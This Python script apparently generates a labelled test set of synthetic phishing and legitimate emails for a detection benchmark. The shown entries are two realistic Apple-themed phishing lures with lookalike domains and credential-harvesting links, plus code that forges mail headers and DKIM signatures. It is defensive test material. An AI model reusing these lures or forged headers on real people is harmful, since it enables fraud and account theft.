"""Blind set 20: consumer phishing forwarded to a consumer-protection charity (2024-2026).

Recipients are English-speaking consumers in the US, UK, Canada and Australia
with personal mailboxes at Gmail, Outlook.com/Hotmail, Yahoo, iCloud, AOL,
Comcast (xfinity), BT (btinternet.com), Shaw and Telstra Bigpond.  Each file is
the message as it sat in the victim's mailbox before they forwarded it to the
charity's "forward us your scam" inbox: the receiving provider's Received
chain and Authentication-Results are on top.

Attacks (50): Apple ID / iCloud storage, Amazon order callback and account
lock, PayPal invoice and money-request abuse, Netflix, banks (Chase, Wells
Fargo/Zelle, Capital One, Barclays, HSBC UK, NatWest, RBC, CommBank, NAB),
USPS / Royal Mail / Canada Post parcel fees, E-ZPass tolls, IRS / HMRC / CRA /
myGov refunds, DVLA and DMV, Norton and McAfee callback invoices, Coinbase /
MetaMask / Trust Wallet seed-phrase theft, Microsoft "unusual sign-in" and
Outlook storage, Facebook page violation, Costco reward survey, Xfinity bill,
Cash App, Medicare card, student-loan forgiveness, sextortion, advance-fee,
fake job, fake charity, pastor gift-card BEC, conveyancing bank-detail change,
a DocuSign-hosted settlement lure and four malware droppers (ISO+LNK, a
ScreenConnect "SSA statement", a reply-chain hijack with a JS-in-ZIP, a fake
e-invitation .exe).  Techniques: lookalike domains passing their own
authentication, display-name spoofs from freemail, direct spoofs failing
DMARC (in junk), compromised mailboxes and WordPress sites passing everything,
genuine services abused (PayPal, DocuSign, Google Docs/Forms, SharePoint,
Canva, calendar invites), HTML attachments, PDFs with links or QR codes, QR
images in the body, callback numbers, mailto-only lures, no-link BEC.

Legitimate (25): the same brands' genuine notifications from their real
domains (Apple, Amazon, PayPal, Chase, Royal Mail, HMRC, E-ZPass, Coinbase,
Microsoft, Google, Netflix, USPS, Australia Post, Bank of America, Norton,
Barclays, Venmo, Instagram), newsletters full of tracking redirects, friends'
and family mail and a community mailing-list post.

Run from the repository root:
    .venv/bin/python samples/tools/build_blind20_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import html as htmlmod
import re
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, render_part  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
OUT = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind20_manifest.txt"


# ----------------------------------------------------------------- tokens


def digest(key: str) -> bytes:
    return hashlib.shake_256(key.encode()).digest(400)


def tok(key: str, n: int, kind: str = "hex") -> str:
    raw = digest(key)
    if kind == "hex":
        return raw.hex()[:n]
    if kind == "b64":
        return base64.b64encode(raw).decode()[:n]
    if kind == "url":
        return base64.urlsafe_b64encode(raw).decode().rstrip("=")[:n]
    if kind == "upper":
        return "".join(c for c in base64.b32encode(raw).decode() if c.isalnum())[:n]
    return "".join(c for c in base64.b64encode(raw).decode() if c.isalnum())[:n]


# ----------------------------------------------------------------- headers


def enc(value: str) -> str:
    """RFC 2047 B-encode a header value if it is not ASCII."""
    if value.isascii():
        return value
    chunks, cur = [], ""
    for ch in value:  # encoded words of at most 75 characters, split on character boundaries
        if len((cur + ch).encode()) > 45:
            chunks.append(cur)
            cur = ""
        cur += ch
    chunks.append(cur)
    return "\n ".join("=?UTF-8?B?" + base64.b64encode(c.encode()).decode() + "?=" for c in chunks)


def addr(name: str, email: str) -> str:
    if not name:
        return email
    if not name.isascii():
        return f"{enc(name)} <{email}>"
    if re.search(r'[()<>@,;:\\".\[\]]', name):
        return '"' + name.replace('"', '\\"') + f'" <{email}>'
    return f"{name} <{email}>"


def when(stamp: str) -> datetime:
    return datetime.strptime(stamp, "%Y-%m-%d %H:%M:%S %z")


def rfcdate(dt: datetime, zone: str | None = None) -> str:
    if zone == "utc":
        return format_datetime(dt.astimezone(timezone.utc)).replace("-0000", "+0000")
    if zone == "pt":
        local = dt.astimezone(ZoneInfo("America/Los_Angeles"))
        return format_datetime(local) + f" ({local.tzname()})"
    return format_datetime(dt)


def dkim_header(domain: str, sel: str, dt: datetime, key: str, heads: str = "") -> str:
    heads = heads or "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"
    bh = tok("bh" + key + domain, 43, "b64") + "="
    sig = tok("sig" + key + domain, 342, "b64") + "=="
    lines = [f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain};",
             f"\ts={sel}; t={int(dt.timestamp())}; x={int(dt.timestamp()) + 1209600};",
             f"\th={heads};", f"\tbh={bh};", "\tb=" + sig[:70]]
    lines += ["\t " + sig[i:i + 72] for i in range(70, len(sig), 72)]
    return "\n".join(lines)


# Providers: mailbox domain -> (style, authserv-id / MX host, extra)
PROVIDERS = {
    "gmail.com": "gmail", "googlemail.com": "gmail",
    "outlook.com": "ms", "hotmail.com": "ms", "hotmail.co.uk": "ms", "live.ca": "ms", "outlook.com.au": "ms",
    "yahoo.com": "yahoo", "yahoo.co.uk": "yahoo", "yahoo.ca": "yahoo", "aol.com": "aol",
    "icloud.com": "icloud", "me.com": "icloud", "mac.com": "icloud",
    "comcast.net": "comcast", "btinternet.com": "bt", "shaw.ca": "shaw",
    "bigpond.com": "bigpond", "bigpond.net.au": "bigpond",
}

GENERIC = {
    "comcast": ("resimta-h2p-{n}.sys.comcast.net", "ESMTPS", "{n6}"),
    "bt": ("re-prd-fep-0{n2}.btmx-prd.synchronoss.net", "ESMTP", "{n6}"),
    "shaw": ("mx-in-0{n1}.cgy.shawcable.net", "ESMTPS", "{n6}"),
    "bigpond": ("omr-a0{n2}.mx.bigpond.com", "ESMTPS", "{n6}"),
}
AUTHSERV = {"comcast": "resimta-h2p-{n}.sys.comcast.net", "bt": "btmx-prd.synchronoss.net",
            "shaw": "shaw.ca", "bigpond": "bigpond.com"}


def spf_text(style: str, res: str, mfrom: str, ip: str) -> str:
    dom = mfrom.split("@")[-1]
    if style == "gmail":
        why = {"pass": f"domain of {mfrom} designates {ip} as permitted sender",
               "softfail": f"domain of transitioning {mfrom} does not designate {ip} as permitted sender",
               "fail": f"domain of {mfrom} does not designate {ip} as permitted sender",
               "neutral": f"{ip} is neither permitted nor denied by best guess record for domain of {mfrom}",
               "none": f"{mfrom} does not designate permitted sender hosts"}[res]
        return f"spf={res} (google.com: {why}) smtp.mailfrom={mfrom}"
    if style == "ms":
        return f"spf={res} (sender IP is {ip})\n smtp.mailfrom={dom}"
    if style in ("yahoo", "aol"):
        return f"spf={res} smtp.mailfrom={dom}"
    return f"spf={res} smtp.mailfrom={mfrom}"


def auth_results(style: str, host: str, m: dict, mfrom: str, ip: str) -> list[str]:
    spf, dkim, dmarc = m["auth"]
    fdom = m["frm"][1].split("@")[1]
    ddom, sel = m.get("dkim") or (fdom, "s1")
    pol = m.get("p", "REJECT")
    bshort = tok("b" + m["slug"], 8, "alnum")
    if style == "gmail":
        parts = []
        if dkim != "none":
            extra = "" if dkim == "pass" else " (body hash did not verify)"
            parts.append(f"dkim={'pass' if dkim == 'pass' else 'neutral'}{extra} header.i=@{ddom} header.s={sel} header.b={bshort}")
        parts.append(spf_text(style, spf, mfrom, ip))
        if dmarc == "none":
            parts.append(f"dmarc=none header.from={fdom}" if spf != "pass" and dkim != "pass"
                         else f"dmarc=pass (p=NONE sp=NONE dis=NONE) header.from={fdom}" if m.get("p") == "NONE"
                         else f"dmarc=none header.from={fdom}")
        else:
            dis = "NONE" if dmarc == "pass" or pol == "NONE" else "QUARANTINE"
            parts.append(f"dmarc={dmarc} (p={pol} sp={pol} dis={dis}) header.from={fdom}")
        return ["Authentication-Results: mx.google.com;\n       " + ";\n       ".join(parts)]
    if style == "ms":
        dk = (f"dkim={dkim} (signature was verified)\n header.d={ddom}" if dkim == "pass" else
              f"dkim=fail (body hash did not verify)\n header.d={ddom}" if dkim == "fail" else
              "dkim=none (message not signed)\n header.d=none")
        action = "none" if dmarc != "fail" or pol == "NONE" else "oreject" if pol == "REJECT" else "quarantine"
        comp = {"pass": "compauth=pass reason=100", "none": "compauth=softpass reason=201",
                "fail": "compauth=fail reason=000"}[dmarc]
        dm = "bestguesspass" if dmarc == "none" and spf == "pass" else dmarc
        return [f"Authentication-Results: {spf_text(style, spf, mfrom, ip)}; {dk};dmarc={dm} action={action}\n"
                f" header.from={fdom};{comp}"]
    if style in ("yahoo", "aol"):
        dk = f"dkim={dkim} header.i=@{ddom} header.s={sel}" if dkim != "none" else "dkim=unknown"
        dm = f"dmarc={dmarc}(p={pol}) header.from={fdom}" if dmarc != "none" else f"dmarc=unknown header.from={fdom}"
        return [f"Authentication-Results: {host};\n {dk};\n {spf_text(style, spf, mfrom, ip)};\n {dm};"]
    if style == "icloud":
        out = [f"Authentication-Results: dmarc.icloud.com; dmarc={dmarc} header.from={fdom}"]
        if dkim != "none":
            out.append(f"Authentication-Results: dkim-verifier.icloud.com; dkim={dkim} (2048-bit key) "
                       f"header.d={ddom} header.i=@{ddom} header.b={bshort}")
        why = "designates" if spf == "pass" else "does not designate"
        out.append(f"Authentication-Results: spf.icloud.com; spf={spf} (spf.icloud.com: domain of {mfrom} "
                   f"{why} {ip} as permitted sender) smtp.mailfrom={mfrom}")
        return out
    dk = f"dkim={dkim} header.d={ddom} header.s={sel} header.b={bshort}" if dkim != "none" else "dkim=none"
    dm = (f"dmarc={dmarc} (p={pol.lower()} dis={'none' if dmarc != 'fail' else pol.lower()}) header.from={fdom}"
          if dmarc != "none" else f"dmarc=none header.from={fdom}")
    return [f"Authentication-Results: {host};\n\t{spf_text(style, spf, mfrom, ip)};\n\t{dk};\n\t{dm}"]


def trace(m: dict, dt: datetime) -> list[str]:
    """Provider headers on top, then the sender-side hops, then the sender's DKIM signature."""
    to = m.get("rcpt", m["to"][1])
    style = PROVIDERS[to.split("@")[1]]
    ip, helo = m["ip"], m["helo"]
    rdns = m.get("rdns", helo)
    mfrom = m.get("mfrom", m["frm"][1])
    slug = m["slug"]
    t_mx, t_in = dt + timedelta(seconds=m.get("lag", 2)), dt + timedelta(seconds=m.get("lag", 2) + 1)
    spf = m["auth"][0]
    out: list[str] = []
    if style == "gmail":
        a, b = tok("g1" + slug, 4), tok("g2" + slug, 4)
        out += [f"Delivered-To: {to}",
                f"Received: by 2002:a05:7010:{a}:b0:{b[:3]}:{tok('g3' + slug, 3)} with SMTP id {tok('g4' + slug, 4)}csp{int(tok('g5' + slug, 7), 16)};\n"
                f"        {rfcdate(t_in, 'pt')}",
                f"X-Received: by 2002:a05:6214:{b}:b0:{a[:3]}:{tok('g6' + slug, 4)} with SMTP id {tok('g7' + slug, 12, 'alnum')}.{int(tok('g8', 3), 16)}.{int(tok('g9' + slug, 6), 16)};\n"
                f"        {rfcdate(t_in, 'pt')}",
                f"Return-Path: <{mfrom}>",
                f"Received: from {helo} ({rdns + '. ' if rdns != 'unknown' else ''}[{ip}])\n        by mx.google.com with ESMTPS id {tok('gi' + slug, 40, 'alnum')[:12].lower()}.{int(tok('gj' + slug, 3), 16)}.{tok('gk' + slug, 4)}\n"
                f"        for <{to}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {rfcdate(t_mx, 'pt')}",
                f"Received-SPF: {spf} {spf_text('gmail', spf, mfrom, ip)[len(spf) + 5:].split(') smtp')[0]}) client-ip={ip};"]
        out += auth_results("gmail", "mx.google.com", m, mfrom, ip)
    elif style == "ms":
        n = int(tok("ms" + slug, 4), 16)
        region = "namprd" if not to.endswith((".co.uk", ".com.au")) else ("eurprd" if to.endswith(".co.uk") else "ausprd")
        mbx = f"{'SA1' if region == 'namprd' else 'DB9' if region == 'eurprd' else 'SY4'}PR{n % 20:02d}MB{1000 + n % 8999}.{region}{10 + n % 9:02d}.prod.outlook.com"
        fe = f"{'BN2' if region == 'namprd' else 'AM4' if region == 'eurprd' else 'SY4'}PEPF0000{tok('fe' + slug, 4).upper()}.{region}{n % 7 + 2:02d}.prod.outlook.com"
        v6 = f"2603:10b6:{n % 999:x}:{tok('v6' + slug, 3)}::{n % 97:x}"
        out += [f"Return-Path: <{mfrom}>",
                f"Received: from {fe} ({v6}) by {mbx}\n with Microsoft SMTP Server (version=TLS1_2,\n"
                f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{8000 + n % 900}.{n % 40}; {rfcdate(t_in, 'utc')}"]
        out += auth_results("ms", "", m, mfrom, ip)
        why = "designates" if spf == "pass" else "does not designate"
        out += [f"Received-SPF: {spf.capitalize()} (protection.outlook.com: domain of\n {mfrom.split('@')[1]} {why} {ip} as permitted sender)\n"
                f" receiver=protection.outlook.com; client-ip={ip}; helo={helo};",
                f"Received: from {helo} ({ip}) by\n {fe.replace('.prod.outlook.com', '.mail.protection.outlook.com')} ({v6.replace('::', ':cafe::')}) with Microsoft\n"
                f" SMTP Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id 15.20.{8000 + n % 900}.{n % 40}\n"
                f" via Frontend Transport; {rfcdate(t_mx, 'utc')}"]
    elif style in ("yahoo", "aol"):
        n = int(tok("y" + slug, 4), 16)
        host = (f"atlas-production.v2-mail-prod1-gq1.omega.yahoo.com" if style == "yahoo"
                else f"atlas{200 + n % 120}.aol.mail.ne1.yahoo.com")
        out += [f"Received: from {ip} (EHLO {helo})\n by mta{4000 + n % 999}.mail.{'gq1' if n % 2 else 'bf1'}.yahoo.com with SMTPs\n"
                f" (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256);\n {rfcdate(t_mx, 'utc')}",
                f"X-Originating-Ip: [{ip}]"]
        out += auth_results(style, host, m, mfrom, ip)
        out.insert(0, f"Return-Path: <{mfrom}>")
    elif style == "icloud":
        n = int(tok("i" + slug, 4), 16)
        out += [f"Return-Path: <{mfrom}>",
                f"Received: from {helo} ({rdns} [{ip}])\n\tby p{n % 10:02d}-mx{n % 12 + 1}.mail.icloud.com (Postfix) with ESMTPS id {tok('id' + slug, 14, 'upper')}\n"
                f"\tfor <{to}>; {rfcdate(t_mx, 'utc')} (UTC)"]
        out += auth_results("icloud", "", m, mfrom, ip)
        why = "designates" if spf == "pass" else "does not designate"
        out.append(f"Received-SPF: {spf} (spf.icloud.com: domain of {mfrom} {why} {ip} as permitted sender) "
                   f"receiver=spf.icloud.com; client-ip={ip}; helo={helo}; envelope-from={mfrom}")
    else:
        n = int(tok("c" + slug, 6), 16)
        vals = {"n": f"{n % 999999:06d}", "n1": n % 9 + 1, "n2": f"{n % 90 + 10}", "n6": tok("q" + slug, 10, "alnum")}
        mx, proto, qid = (s.format(**vals) for s in GENERIC[style])
        serv = AUTHSERV[style].format(**vals)
        out += [f"Return-Path: <{mfrom}>",
                f"Received: from {helo} ([{ip}])\n\tby {mx} with {proto}\n\tid {qid}; {rfcdate(t_mx)}"]
        out += auth_results(style, serv, m, mfrom, ip)
    for hop in m.get("relay", []):
        out.append(hop.format(date=rfcdate(dt + timedelta(seconds=1))))
    if m["auth"][1] != "none" and not m.get("nodkim"):
        ddom, sel = m.get("dkim") or (m["frm"][1].split("@")[1], "s1")
        out.append(dkim_header(ddom, sel, dt, slug, m.get("dkim_h", "")))
    return out


# ----------------------------------------------------------------- bodies


def bnd(style: str, key: str) -> str:
    if style == "gmail":
        return "0000000000" + tok("bd" + key, 16)
    if style == "outlook":
        return "_000_" + tok("bd" + key, 32, "upper") + "namprd_"
    if style == "apple":
        h = tok("bd" + key, 32).upper()
        return f"Apple-Mail={h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}"
    if style == "php":
        return "b1_" + tok("bd" + key, 40, "alnum")
    if style == "sfmc":
        return f"----=_Part_{int(tok('p' + key, 5), 16)}_{int(tok('q' + key, 8), 16)}.{1700000000000 + int(tok('r' + key, 8), 16)}"
    return "=_" + tok("bd" + key, 28)


def plain(text: str, enc_: str | None = None, flowed: bool = False) -> Leaf:
    data = text.encode("utf-8")
    encoding = enc_ or ("7bit" if text.isascii() and max(map(len, text.split("\n"))) < 990 else "quoted-printable")
    params = '; charset="utf-8"' + ('; format=flowed' if flowed else "")
    if text.isascii() and encoding == "7bit":
        params = '; charset="us-ascii"' + ('; format=flowed' if flowed else "")
    return Leaf("text/plain", data, encoding, params)


def hpart(html: str, encoding: str = "quoted-printable") -> Leaf:
    return Leaf("text/html", html.encode("utf-8"), encoding, '; charset="utf-8"')


def multi(sub: str, parts: list, style: str = "") -> Multi:
    key = sub + "".join(render_part(p).decode("utf-8", "replace")[:4000] for p in parts)
    return Multi(sub, bnd(style, hashlib.md5(key.encode()).hexdigest()), parts)


def alt(text: str, html: str, style: str = "sfmc") -> Multi:
    return multi("alternative", [plain(text), hpart(html)], style)


def to_text(html: str) -> str:
    """A text alternative as the platform would derive it from the HTML."""
    s = re.sub(r"<head>.*?</head>", "", html, flags=re.S)
    s = re.sub(r"<a [^>]*href=\"([^\"]+)\"[^>]*>(.*?)</a>", lambda m_: f"{m_.group(2)} ( {m_.group(1)} )", s, flags=re.S)
    s = re.sub(r"<(br|/p|/tr|/h\d|/div|/li)[^>]*>", "\n", s)
    s = re.sub(r"<[^>]+>", "", s)
    s = htmlmod.unescape(s)
    lines = [ln.strip() for ln in s.split("\n")]
    return re.sub(r"\n{3,}", "\n\n", "\n".join(lines)).strip() + "\n"


def card(brand: str, color: str, heading: str, paras: list[str], btn: tuple[str, str] | None = None,
         foot: str = "", logo: str = "", pre: str = "", after: list[str] | None = None) -> str:
    """The table layout marketing platforms and phishing kits both use."""
    logo_html = (f'<img src="{logo}" alt="{htmlmod.escape(brand)}" width="120" style="display:block;border:0">'
                 if logo else f'<span style="font-size:22px;font-weight:bold;color:{color}">{htmlmod.escape(brand)}</span>')
    body = "\n".join(f'<p style="margin:0 0 16px 0">{p}</p>' for p in paras)
    button = (f'<table role="presentation" cellpadding="0" cellspacing="0"><tr><td style="background:{color};border-radius:4px;padding:12px 28px">'
              f'<a href="{btn[1]}" style="color:#ffffff;text-decoration:none;font-weight:bold">{btn[0]}</a></td></tr></table>'
              if btn else "")
    tail = "\n".join(f'<p style="margin:16px 0 0 0">{p}</p>' for p in (after or []))
    pre_html = f'<div style="display:none;max-height:0;overflow:hidden">{pre}</div>\n' if pre else ""
    return f"""<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>{htmlmod.escape(heading)}</title></head>
<body style="margin:0;padding:0;background:#f2f2f2;font-family:Helvetica,Arial,sans-serif">
{pre_html}<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background:#f2f2f2"><tr><td align="center" style="padding:24px 8px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-top:4px solid {color}">
<tr><td style="padding:24px 32px 8px 32px">{logo_html}</td></tr>
<tr><td style="padding:8px 32px 24px 32px;font-size:15px;line-height:22px;color:#333333">
<h1 style="font-size:21px;color:#111111;margin:0 0 18px 0">{heading}</h1>
{body}
{button}
{tail}
</td></tr>
<tr><td style="padding:16px 32px;background:#fafafa;font-size:11px;line-height:16px;color:#888888">{foot}</td></tr>
</table></td></tr></table>
</body></html>
"""


def card_alt(*args, style: str = "sfmc", **kw) -> Multi:
    h = card(*args, **kw)
    return alt(to_text(h), h, style)


def newsletter(title: str, color: str, intro: str, items: list[tuple[str, str, str]], foot: str, logo: str = "") -> str:
    rows = "\n".join(
        f'<tr><td style="padding:14px 28px;border-bottom:1px solid #eeeeee"><a href="{u}" style="font-size:18px;color:{color};'
        f'text-decoration:none;font-weight:bold">{h}</a><p style="margin:6px 0 0 0;font-size:14px;color:#444">{b}</p></td></tr>'
        for h, b, u in items)
    head = f'<img src="{logo}" alt="{title}" width="180">' if logo else f'<b style="font-size:24px;color:{color}">{title}</b>'
    return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>{title}</title></head>
<body style="margin:0;background:#ffffff;font-family:Georgia,serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="620" cellpadding="0" cellspacing="0">
<tr><td style="padding:20px 28px">{head}</td></tr>
<tr><td style="padding:0 28px 10px 28px;font-size:15px;color:#222">{intro}</td></tr>
{rows}
<tr><td style="padding:20px 28px;font-size:11px;color:#777;font-family:Arial,sans-serif">{foot}</td></tr>
</table></td></tr></table></body></html>
"""


def gmail_html(text: str) -> str:
    paras = text.strip().split("\n\n")
    inner = "<div><br></div>".join("<div>" + "<br>".join(htmlmod.escape(p).split("\n")) + "</div>" for p in paras)
    return f'<div dir="ltr">{inner}</div>\n'


def gmail_alt(text: str) -> Multi:
    return multi("alternative", [plain(text), hpart(gmail_html(text))], "gmail")


def outlook_html(text: str) -> str:
    paras = "\n".join(f'<p class="MsoNormal">{htmlmod.escape(p) if p else "<o:p>&nbsp;</o:p>"}<o:p></o:p></p>'
                      for p in text.strip().split("\n"))
    return ('<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">\n'
            '<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
            '<style><!--p.MsoNormal{margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;}--></style></head>\n'
            f'<body lang="EN-US" link="#0563C1" vlink="#954F72"><div class="WordSection1">\n{paras}\n</div></body></html>\n')


def outlook_alt(text: str) -> Multi:
    return multi("alternative", [plain(text), hpart(outlook_html(text))], "outlook")


def mixed(body, *atts, style: str = "") -> Multi:
    return multi("mixed", [body, *atts], style)


def related(html: str, imgs: list[Leaf], text: str | None = None, style: str = "") -> Multi:
    rel = multi("related", [hpart(html), *imgs], style)
    if text is None:
        return rel
    return multi("alternative", [plain(text), rel], style)


def inline_png(name: str, data: bytes, cid: str) -> Leaf:
    return attachment("image/png", name, data, inline=True, cid=cid)


def qr_pdf(lines: list[str], url: str, title: str) -> bytes:
    """A one-page PDF with text lines and a QR code image of ``url`` (as quishing kits attach)."""
    import segno

    qr = segno.make(url, error="m", micro=False)
    mat = [list(row) for row in qr.matrix]
    border, scale = 4, 4
    n = len(mat) + 2 * border
    raw = bytearray()
    for y in range(n):
        row = bytearray()
        for x in range(n):
            yy, xx = y - border, x - border
            dark = 0 <= yy < len(mat) and 0 <= xx < len(mat) and mat[yy][xx]
            row += bytes([0 if dark else 255]) * scale
        raw += bytes(row) * scale
    image = zlib.compress(bytes(raw), 9)
    text = ["BT", "/F1 11 Tf", "15 TL", "56 780 Td"] + [f"({files._pdf_escape(s)}) Tj T*" for s in lines] + ["ET"]
    stream = ("\n".join(text) + "\nq 170 0 0 170 56 360 cm /Im1 Do Q").encode("latin-1")
    objects = files.image_page(stream, image, n * scale, n * scale, "FlateDecode")
    objects.append(f"<< /Title ({files._pdf_escape(title)}) /Producer (Skia/PDF m126) /CreationDate (D:20250214101500Z) >>".encode())
    return files.pdf_file(objects, 7)


def ics(uid: str, organizer: str, attendee: str, summary: str, start: str, desc: str, loc: str = "") -> bytes:
    def fold(line: str) -> str:
        return "\r\n ".join(line[i:i + 73] for i in range(0, len(line), 73))
    lines = ["BEGIN:VCALENDAR", "PRODID:-//Google Inc//Google Calendar 70.9054//EN", "VERSION:2.0", "CALSCALE:GREGORIAN",
             "METHOD:REQUEST", "BEGIN:VEVENT", f"DTSTART:{start}", f"DTEND:{start[:-5]}3000Z",
             f"DTSTAMP:{start}", f"ORGANIZER;CN={organizer}:mailto:{organizer}", f"UID:{uid}",
             f"ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN={attendee};X-NUM-GUESTS=0:mailto:{attendee}",
             f"CREATED:{start}", "DESCRIPTION:" + desc.replace("\n", "\\n").replace(",", "\\,"), f"LOCATION:{loc}",
             "SEQUENCE:0", "STATUS:CONFIRMED", "SUMMARY:" + summary, "TRANSP:OPAQUE", "END:VEVENT", "END:VCALENDAR"]
    return ("\r\n".join(fold(x) for x in lines) + "\r\n").encode()


# ----------------------------------------------------------------- assembly


def default_msgid(m: dict, dt: datetime) -> str:
    """Message-ID as the sending software writes it."""
    dom, k = m["frm"][1].split("@")[1], "mid" + m["slug"]
    if dom == "gmail.com":
        return f"<CA{tok(k, 40, 'alnum')}@mail.gmail.com>"
    if dom in ("outlook.com", "hotmail.com", "hotmail.co.uk"):
        box = f"{'DB9PR' if dom.endswith('.uk') else 'SA1PR'}{int(tok(k, 2), 16) % 20:02d}MB{int(tok(k, 4), 16) % 9000 + 1000}"
        return f"<{box}{tok(k + 'o', 12).upper()}@{box}.{'eurprd' if dom.endswith('.uk') else 'namprd'}0{int(tok(k, 1), 16) % 9 + 1}.prod.outlook.com>"
    if dom == "yahoo.com":
        return f"<{int(tok(k, 9), 16)}.{int(tok(k + 'y', 9), 16)}.{int(dt.timestamp())}{int(tok(k, 3), 16)}@mail.yahoo.com>"
    if dom == "me.com":
        h = tok(k, 32).upper()
        return f"<{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}@me.com>"
    return f"<{tok(k, 24, 'alnum')}@{dom}>"


def build(m: dict) -> bytes:
    dt = when(m["date"])
    head = trace(m, dt)
    frm = addr(*m["frm"])
    to = m.get("to_hdr") or addr(*m["to"])
    msgid = m.get("msgid") or default_msgid(m, dt)
    core = [f"From: {frm}", f"To: {to}", f"Subject: {enc(m['subj'])}", f"Date: {rfcdate(dt)}", f"Message-ID: {msgid}"]
    if m.get("reply_to"):
        core.insert(1, f"Reply-To: {m['reply_to']}")
    head += core + m.get("hdrs", [])
    return message("\n".join(head), m["body"])


def check(data: bytes, slug: str) -> None:
    msg = BytesParser(policy=policy.default).parsebytes(data)
    for part in msg.walk():
        assert not part.defects, (slug, part.get_content_type(), part.defects)
        for name, value in part.items():
            assert not getattr(value, "defects", None), (slug, name, value.defects)
        if not part.is_multipart():
            part.get_content()
    for need in ("From", "To", "Subject", "Date", "Message-ID", "Authentication-Results", "Received"):
        assert msg[need], (slug, need)


MESSAGES: list[dict] = []


def add(**m) -> None:
    MESSAGES.append(m)


# ----------------------------------------------------------------- message tables

PASS = ("pass", "pass", "pass")
OWN = ("pass", "pass", "none")  # a lookalike domain with SPF and DKIM but no DMARC record
PHP = ["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]
GMAIL_IP = "209.85.220.{}"


def gm(n: int) -> dict:
    """Sending fields for a message written in Gmail (freemail or personal)."""
    return {"ip": GMAIL_IP.format(n), "helo": f"mail-sor-f{n}.google.com", "auth": PASS, "dkim": ("gmail.com", "20230601"),
            "p": "NONE"}


def ms_out(n: int, dom: str = "outlook.com", eu: bool = False) -> dict:
    """Sending fields for an Outlook.com / Hotmail mailbox."""
    helo = f"EUR0{n % 5 + 1}-DB5-obe" if eu else f"NAM{n % 4 + 10}-BN8-obe"
    return {"ip": f"40.92.{n}.{(n * 7) % 250 + 3}", "helo": f"{helo}.outbound.protection.outlook.com",
            "auth": PASS, "dkim": (dom, "selector1"), "p": "NONE"}


# ============================================================ ATTACKS (50)

add(slug="apple-icloud-storage-full", cat="phishing", kind="phish",
    desc="iCloud 'storage full, photos will be deleted' lure from a lookalike notice domain passing its own SPF/DKIM; "
         "the upgrade button goes to a pages.dev kit that harvests Apple ID and card details.",
    frm=("iCloud", "no-reply@icloudstorage-notice.com"), to=("Megan Hartley", "megan.hartley84@gmail.com"),
    subj="Your iCloud storage is full – your photos and videos will be removed", date="2025-02-11 07:42:18 -0500",
    ip="185.225.74.31", helo="mail.icloudstorage-notice.com", auth=OWN, dkim=("icloudstorage-notice.com", "default"),
    hdrs=PHP, body=card_alt(
        "iCloud", "#0071e3", "Your storage is full",
        ["Dear Customer,", "Your iCloud storage plan has reached its limit. Backups have stopped and your photos, videos, "
         "files and contacts are no longer being uploaded. <b>Items that are not backed up will be removed on 13 February 2025.</b>",
         "As part of our loyalty programme you can receive <b>50 GB of additional storage free of charge</b>. "
         "Just confirm your payment details below to keep your Apple ID in good standing."],
        ("Upgrade Storage", "https://icloud-storage-upgrade.pages.dev/?id=megan.hartley84%40gmail.com&ref=ML25-71"),
        "Apple ID | Support | Privacy Policy<br>Copyright © 2025 Apple Inc. One Apple Park Way, Cupertino, CA 95014, United States.",
        pre="Backups stopped. Get 50 GB free today.", style="php"))

add(slug="apple-id-locked-pdf-outlook", cat="phishing", kind="phish",
    desc="'Apple Support' display name on a throwaway outlook.com mailbox sends a short note and a PDF whose single "
         "button links to a Firebase web.app Apple ID login kit.",
    frm=("Apple Support", "applesupport.case0419@outlook.com"), to=("Daniel Okafor", "d.okafor@icloud.com"),
    subj="Apple ID Locked: Case ID 104-7729-3318", date="2024-10-22 16:05:44 +0000", **ms_out(17),
    hdrs=["Content-Language: en-US", "X-MS-Has-Attach: yes", "X-Originating-IP: [102.89.47.112]"],
    body=mixed(outlook_alt("Dear Customer,\n\nYour Apple ID has been locked for security reasons because an unknown device "
                           "attempted to sign in from Lagos, Nigeria.\n\nPlease see the attached document for the steps required "
                           "to restore access. If no action is taken within 24 hours your Apple ID will be permanently disabled.\n\n"
                           "Apple Support\nCase ID 104-7729-3318"),
               attachment("application/pdf", "AppleID_Case_104-7729-3318.pdf", files.pdf(
                   ["Apple ID - Account Locked", "", "Case ID: 104-7729-3318", "Account: d.okafor@icloud.com",
                    "Reason: Unrecognised sign-in attempt (Lagos, NG)", "",
                    "To unlock your Apple ID, verify your identity and payment method.",
                    "Accounts not verified within 24 hours are permanently disabled."],
                   ("https://appleid-restore-case.web.app/verify?case=104-7729-3318&u=ZC5va2Fmb3JAaWNsb3VkLmNvbQ", (56, 560, 300, 600)),
                   "Apple ID Case")), style="outlook"))

